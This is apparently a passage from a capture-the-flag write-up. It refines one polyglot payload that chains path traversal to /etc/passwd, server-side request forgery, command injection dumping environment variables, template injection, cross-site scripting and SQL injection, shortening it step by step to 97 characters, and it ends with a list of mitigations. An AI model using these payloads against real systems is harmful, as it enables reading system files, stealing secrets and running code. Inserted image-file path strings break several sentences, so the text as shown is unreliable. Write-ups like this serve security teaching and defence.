POST /check HTTP/1.1
Content-Type: application/json

  "payload": "//0:3001/internalSecrets.txt?;env #<svg onload=alert()>{{range.constructor('return process.env.COMMAND')()}}\" OR 1=1--/../../etc/passwd"

Extra: Improving the solution

For fun, we can continue a bit with optimization with some more ideas.
Continuing with the directory traversal, the only reason we need ../ sequences is because we have / characters in our payload before it. We can't do much about the starting // because it needs to be recognized as a full URL. But the second slash for separating the host from the path is more interesting, as after some testing we can actually replace it with a \ backslash instead. This removes the need for another ../ sequence shortening our payload by another 3 characters://0:3001\internalSecrets.txt?;env #<svg onload=alert()>{{range.constructor('return process.env.COMMAND')()}}" OR 1=1--/../etc/passwd

Lastly, the SQL Injection payload can even be improved. It turns out that the spacing between " and OR does not matter, and we can strip it. Also, the condition 1=1 can be simplified to just 1 in MySQL because it coerces to TRUE. With these two tricks, we shave off another 3 characters, resulting in my final payload of 129 characters:


//0:3001\internalSecrets.txt?;env #<svg onload=alert()>{{range.constructor('return process.env.COMMAND')()}}"OR 1--/../etc/passwd

After the CTF had ended, another person by the name of "lostbyte" shared a trick that relies on being able to write files in the current directory, which you can use to write during command injection and then read during SSTI:


;env | tee x #{% include 'x' %}

This idea is much shorter than reading the environment variables in two separate exploits, and can be combined with the previous tricks to net a payload of only 97 characters:


//0:3001\internalSecrets.txt?;env|tee x #{%include 'x'%}<svg onload=alert()>"OR 1--/../etc/passwd


This was not a very realistic challenge, so mitigations are minimal. But the individual checks canall be fixed as follows:

  1. Local File Inclusion: Specify a base directory and don't allow absolute paths or directory traversals. Potentially check if the resulting path starts with the base directory after resolving to make sure it is always read from the correct directory.2. SQL Injection: Use prepared statements as already done in the table initialization to query the password.
  3. Server-Side Request Forgery: This type ofvulnerability is always difficult to prevent, but consider if this server can be placed in a location where it is not able to access anythinga regular user also wouldn't be able to, such as on a network separated from other applications.
  4. Command Injection: Use heavy sanitization of the parameters and usearrays of command arguments like ["ls", "/" + payload] to prevent shell injections. Consider if executing a system command is really needed instead of using a language API.
  5. Server-Side Template Injection: Never let user input into the template source code, its purpose is to put user input into the parameters of the renderString() function which will be put into the placeholders that the static template defined.6. Cross-Site Scripting: HTML-escape characters like < and > to < and > to prevent the browser from interpreting the data as code. Also consider adding a Content-Security-Policy header to prevent unauthorized JavaScriptfrom running, even incase of HTML Injection.